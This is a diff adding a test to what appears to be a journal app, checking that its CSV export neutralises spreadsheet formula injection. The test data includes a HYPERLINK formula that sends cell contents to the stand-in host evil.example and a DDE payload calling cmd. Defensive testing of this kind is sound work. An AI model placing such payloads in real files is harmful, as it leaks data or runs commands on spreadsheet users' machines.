@@ -209,3 +209,19 @@ def test_cli_refuses_a_markdown_file_for_import(db, db_path, journal_of, tmp_pat
     markdown.write_text(export.to_markdown(db, journal_of), encoding="utf-8")
     result = run_cli(db_path, "import", "--user", journal_of.username, str(markdown))
     assert result.returncode == 2 and "not valid JSON" in result.stderr
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(db, make_user):
+    teacher = make_user()
+    formulas = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+    for number, formula in enumerate(formulas):
+        write(db, teacher, formula, f"2025-03-0{number + 1}T08:00:00+00:00", title=formula[:40],
+              class_period=formula[:20], tags=[formula.replace(",", " ")[:40]], taught_on=date(2025, 3, number + 1))
+    write(db, teacher, "A plain entry - with a dash inside.", "2025-03-09T08:00:00+00:00", title="Plain")
+
+    rows = list(csv.DictReader(io.StringIO(export.to_csv(db, teacher))))
+    cells = [cell for row in rows for column, cell in row.items() if column in ("title", "body", "class_period", "tags")]
+    assert not [cell for cell in cells if cell.startswith(export.FORMULA_STARTS)]
+    assert {row["body"] for row in rows} >= {"'" + formula for formula in formulas}
+    assert rows[0]["body"] == "A plain entry - with a dash inside." and rows[0]["title"] == "Plain"
+    assert all(row["word_count"].isdigit() for row in rows)
